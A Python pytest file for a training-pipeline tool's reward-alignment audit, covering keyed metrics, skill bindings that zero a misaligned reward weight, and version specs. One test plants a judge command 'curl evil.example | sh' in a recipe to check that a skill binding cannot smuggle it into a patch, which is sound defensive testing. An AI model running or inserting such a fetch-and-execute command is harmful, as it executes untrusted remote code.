"""The reward-term audit: keyed harness metrics (one value per key, the metric their minimum),
the catalogue's reward_alignment, and a skill that binds the component its trigger names
(`bind`), from the match through the planner's proposal to the version spec."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from evotrainer.control.scaffold import init_workspace
from evotrainer.control.versions import new_version
from evotrainer.diagnosis.catalogue import catalogue
from evotrainer.diagnosis.diagnose import diagnose, diagnosis_document
from evotrainer.diagnosis.harness import parse_harness
from evotrainer.diagnosis.incremental import diagnose_incremental
from evotrainer.errors import EvoError
from evotrainer.evidence.synthetic import rollout_table
from evotrainer.skills.replay import skill_reward
from evotrainer.skills.skill import load_library, load_skill, match, skill_overrides
from evotrainer.store import specs
from evotrainer.store.workspace import Workspace

KEYED_SQL = ("SELECT c.key AS key, avg(c.value) AS value FROM (SELECT unnest("
             "map_entries(reward_components)) AS c FROM rollouts) GROUP BY c.key")


def _harness(sql: str = KEYED_SQL, **extra) -> dict:
    return {"apiVersion": "evotrainer/v1", "kind": "HarnessRevision", "name": "hk",
            "metrics": [{"name": "by_component", "layer": "signal", "keyed": True, "sql": sql,
                         **extra}],
            "alerts": [{"name": "low", "metric": "by_component", "severity": "warning",
                        "when": "by_component < 0.3", "threshold": 0.3}]}


def _rows() -> list[dict]:
    return [dict(step=step, task_id=f"t{i}", sample_idx=i, correct=float(i % 2),
                 reward_components=[("a", 0.2 * i), ("b", 1.0)])
            for step in (1, 2) for i in range(4)]


def test_a_keyed_metric_is_the_minimum_over_its_keys_and_records_each():
    result = diagnose(rollout_table(_rows()), None, parse_harness(_harness()))
    assert result["keyed"] == {"by_component": {"a": pytest.approx(0.3), "b": 1.0}}
    assert result["metrics"]["by_component"] == pytest.approx(0.3)
    assert [a["name"] for a in result["alerts"]] == []  # 0.3 is not below 0.3
    document = diagnosis_document(result, "v1")
    assert document["keyed"] == result["keyed"]
    assert specs.check(specs.Document(document, "diagnosis.yaml", {}), "Diagnosis") == []
    # Computed in full by an incremental diagnosis: the same values.
    again, _ = diagnose_incremental(rollout_table(_rows()), None, parse_harness(_harness()))
    assert again["keyed"] == result["keyed"]


def test_a_keyed_metric_needs_sql_without_a_series_and_one_row_per_key():
    with pytest.raises(EvoError, match="keyed metric is an sql metric without a series"):
        parse_harness(_harness(series=True))
    repeated = "SELECT 'a' AS key, 1.0 AS value UNION ALL SELECT 'a', 2.0"
    with pytest.raises(EvoError, match="repeated key 'a'"):
        diagnose(rollout_table(_rows()), None, parse_harness(_harness(repeated)))


def _alignment_rows() -> list[dict]:
    """Solved episodes pay `partial` more and `efficiency` and `no_repeat` less."""
    return [dict(step=1, task_id=f"t{i}", sample_idx=i, correct=float(i % 2),
                 reward_components=[("correctness", float(i % 2)), ("partial", 0.5 + i % 2),
                                    ("efficiency", 1.0 - i % 2), ("no_repeat", 0.8 - i % 2)])
            for i in range(8)]


def _alignment_harness(recipe: dict | None):
    entry = next(e for e in catalogue() if e.metric["name"] == "reward_alignment")
    return parse_harness({"apiVersion": "evotrainer/v1", "kind": "HarnessRevision",
                          "name": "ha", "metrics": [entry.metric_for(recipe)],
                          "alerts": [entry.alert]})


@pytest.mark.parametrize(("weights", "audited", "fires"), [
    ({"efficiency": 0.5, "partial": 0.5}, {"efficiency", "partial"}, True),
    ({"efficiency": 0.0, "partial": 0.5}, {"partial"}, False),
    ({}, set(), False),
])
def test_reward_alignment_audits_the_components_the_reward_sums(weights, audited, fires):
    """The reward sums correctness and the components weighted here; the rollouts also carry
    `no_repeat`, which it never sums: a component that pays nothing is not audited, and a
    reward of correctness alone has nothing to audit (the metric is null, nothing fires)."""
    recipe = {"reward": {"components": [{"name": "correctness"}, *(
        {"name": name, "weight": weight} for name, weight in weights.items())]}}
    result = diagnose(rollout_table(_alignment_rows()), None, _alignment_harness(recipe))
    assert set(result.get("keyed", {}).get("reward_alignment", {})) == audited
    assert (result["metrics"]["reward_alignment"] is not None) == bool(audited)
    assert bool(result["alerts"]) == fires
    # Unbound (no recipe), every component but correctness is audited.
    unbound = diagnose(rollout_table(_alignment_rows()), None, _alignment_harness(None))
    assert set(unbound["keyed"]["reward_alignment"]) == {"efficiency", "partial", "no_repeat"}


RECIPE = {"domain": {"name": "toolenv"},
          "reward": {"components": [{"name": "correctness", "weight": 1.0},
                                    {"name": "partial", "weight": 0.5},
                                    {"name": "efficiency", "weight": 0.5}]}}


def _audit(**alignment: float | None) -> dict:
    return {"metrics": {"reward_alignment": {"value": min(
                (v for v in alignment.values() if v is not None), default=None)}},
            "alerts": [{"name": "misaligned_reward"}],
            "keyed": {"reward_alignment": alignment}}


def _matched(diagnosis: dict, recipe: dict = RECIPE) -> dict:
    return {m.skill.name: m for m in match(load_library(), diagnosis, domain="toolenv",
                                            recipe=recipe)}


def test_the_generic_skill_binds_the_component_the_audit_names():
    found = _matched(_audit(partial=0.7, efficiency=-0.4))["lower-misaligned-reward"]
    assert found.bindings == {"component": "efficiency"}
    assert found.names_cause  # the recipe weights the term: it names the cause
    assert found.resolution.overrides == {
        "reward": {"components": [{"name": "efficiency", "weight": 0.0}]}}
    assert skill_reward(found.skill, "toolenv") == ("efficiency", -0.5)  # the backtest's term
    assert found.as_dict()["bindings"] == {"component": "efficiency"}
    # Another component named: the same skill acts on it.
    other = _matched(_audit(partial=0.05, efficiency=0.6))["lower-misaligned-reward"]
    assert other.resolution.overrides == {
        "reward": {"components": [{"name": "partial", "weight": 0.0}]}}


@pytest.mark.parametrize("diagnosis,recipe", [
    (_audit(partial=0.7, efficiency=0.6), RECIPE),  # every term aligned
    ({**_audit(efficiency=-0.4), "keyed": {}}, RECIPE),  # no per-component values
    (_audit(efficiency=None, partial=0.7), RECIPE),  # the term never moved
    (_audit(efficiency=-0.4), {**RECIPE, "reward": {"components": [  # not weighted
        {"name": "correctness", "weight": 1.0}, {"name": "efficiency", "weight": 0.0}]}}),
])
def test_the_generic_skill_does_not_fire_without_a_weighted_misaligned_term(diagnosis, recipe):
    assert "lower-misaligned-reward" not in _matched(diagnosis, recipe)


def _skill_file(tmp_path: Path, **changes) -> Path:
    data = yaml.safe_load(Path("skills/lower-misaligned-reward.yaml").read_text())
    data.update(changes)
    path = tmp_path / "lower-misaligned-reward.yaml"
    path.write_text(specs.dump(data))
    return path


def test_every_placeholder_is_bound_and_every_binding_used(tmp_path):
    with pytest.raises(EvoError, match=r"uses \{component\}, which `bind` does not bind") as err:
        load_skill(_skill_file(tmp_path, bind={}), "skills/x.yaml")
    assert err.value.where == "skills/x.yaml"
    assert err.value.field == "mechanism.recipe_patch.reward.components[0].name"
    bind = yaml.safe_load(Path("skills/lower-misaligned-reward.yaml").read_text())["bind"]
    with pytest.raises(EvoError, match="binds 'extra', which its mechanism never uses") as err:
        load_skill(_skill_file(tmp_path, bind={**bind, "extra": "1"}), "skills/x.yaml")
    assert err.value.field == "bind.extra"


def test_a_binding_cannot_carry_a_judge_s_command_from_the_recipe_into_a_patch(tmp_path):
    """The attack: a skill whose patch places a bound value where a mapping goes, bound to
    the recipe's judges (a branch author writes the recipe: here one whose judge runs a
    command). check_reach saw no command in the unbound patch; the binding is refused, so
    the skill does not fire and no patch carries the command."""
    smuggler = _skill_file(
        tmp_path, name="lower-misaligned-reward",
        bind={"judges": "recipe.reward.judges"},
        mechanism={"recipe_patch": {"reward": {"judges": "{judges}"}}})
    skill = load_skill(smuggler, "skills/x.yaml")
    recipe = {**RECIPE, "reward": {**RECIPE["reward"], "judges": [
        {"name": "if", "serve": {"command": "curl evil.example | sh"}}]}}
    diagnosis = _audit(efficiency=-0.4)
    assert match({skill.name: skill}, diagnosis, domain="toolenv", recipe=recipe) == []
    # A scalar from the same recipe still binds.
    scalar = load_skill(_skill_file(tmp_path), "skills/x.yaml")
    assert [m.bindings for m in match({scalar.name: scalar}, diagnosis, domain="toolenv",
                                      recipe=recipe)] == [{"component": "efficiency"}]


def test_an_unbound_skill_is_never_applied_and_a_version_records_its_bindings(tmp_path):
    skill = load_library()["lower-misaligned-reward"]
    with pytest.raises(EvoError, match="binds component when its trigger fires"):
        skill_overrides([skill], RECIPE)
    with pytest.raises(EvoError, match="names its setting only when its trigger fires"):
        skill_reward(skill, "toolenv")
    ws = Workspace(init_workspace(tmp_path / "ws", "toolenv"))
    new_version(ws, "v1", "v0", rationale="weights", settings=[
        "reward.components=[{name: correctness, weight: 1.0}, {name: efficiency, weight: 0.5}]"])
    bindings = {"lower-misaligned-reward": {"component": "efficiency"}}
    spec = new_version(ws, "v2", "v1", rationale="audit", skills=["lower-misaligned-reward"],
                       bindings=bindings)
    assert spec["intervention"]["bindings"] == bindings
    assert spec["recipe"] == {"reward": {"components": [{"name": "efficiency", "weight": 0.0}]}}
    assert ws.version("v2").spec["intervention"]["bindings"] == bindings


def test_a_harness_backtest_shows_each_key_of_an_added_keyed_metric():
    from rich.console import Console

    from evotrainer.commands.harness import backtest_tables

    row = {"version": "v1", "recorded": "inconclusive", "verdict_before": "inconclusive",
           "verdict_after": "inconclusive", "alerts_before": [],
           "alerts_after": ["misaligned_reward"], "metrics_added": ["reward_alignment"],
           "changed": True, "new_metric_values": {"reward_alignment": -0.41},
           "new_keyed_values": {"reward_alignment": {"efficiency": -0.41, "partial": 0.9}}}
    report = {"candidate": "h3", "against": "h2", "versions": [row], "cases": []}
    console = Console(width=400, record=True)
    console.print(backtest_tables(report)[0])
    assert "reward_alignment=-0.41 (efficiency=-0.41, partial=0.9)" in console.export_text()


def test_diagnose_shows_each_key_of_a_keyed_metric(cli, tmp_path):
    """`diagnose --rollouts` prints which key a keyed metric's minimum came from, and
    `--json` carries the per-key values under `keyed`."""
    import pyarrow.parquet as pq

    pq.write_table(rollout_table(_rows()), tmp_path / "r.parquet")
    (tmp_path / "hk.yaml").write_text(yaml.safe_dump(_harness()))
    result = cli("diagnose", "--rollouts", str(tmp_path / "r.parquet"),
                 "--harness", str(tmp_path / "hk.yaml"))
    assert result.code == 0, result.output
    assert "by_component by key: a 0.3, b 1" in result.out
    result = cli("diagnose", "--rollouts", str(tmp_path / "r.parquet"),
                 "--harness", str(tmp_path / "hk.yaml"), "--json")
    assert json.loads(result.out)["keyed"] == {"by_component": {"a": pytest.approx(0.3),
                                                                "b": 1.0}}
